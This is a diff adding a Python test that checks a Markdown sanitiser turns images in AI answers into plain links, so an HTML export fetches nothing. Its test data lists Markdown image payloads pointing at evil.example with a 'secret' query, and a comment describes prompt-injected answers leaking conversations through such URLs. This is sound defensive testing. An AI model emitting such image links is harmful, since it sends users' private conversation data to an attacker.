@@ -155,3 +155,22 @@ def test_the_static_markdown_allows_only_safe_link_targets_however_spelled() -> 
         assert "data:" not in md, md
     kept = "[a](https://example.org) [b](/rel) [c](mailto:x@y.z)\n\n[r]: http://ok.example"
     assert escape_raw_html(kept) == kept
+
+
+def test_an_image_in_an_answer_becomes_a_link_and_nothing_is_fetched() -> None:
+    # A remote image is fetched as soon as it is shown, and a URL an answer chose can carry what
+    # the answer knows (a prompt-injected answer leaking the conversation).
+    import mistune  # nbconvert's Markdown renderer: what an HTML export of the notebook shows
+
+    leaks = [
+        "![leak](https://evil.example/x.png?q=secret)",
+        "see ![r][ref]\n\n[ref]: https://evil.example/r.png",
+        "\\\\![y](https://evil.example/y.png)",  # an escaped backslash, then an image
+        "[![badge](https://evil.example/b.png)](https://ok.example)",
+    ]
+    for leak in leaks:
+        html = str(mistune.html(escape_raw_html(leak)))
+        assert "<img" not in html, html
+        assert 'href="https://evil.example/' in html, html  # still one click away
+    assert escape_raw_html("`![x](u)`") == "`![x](u)`"  # code is left alone
+    assert escape_raw_html("\\![x](u)") == "\\![x](u)"  # already not an image
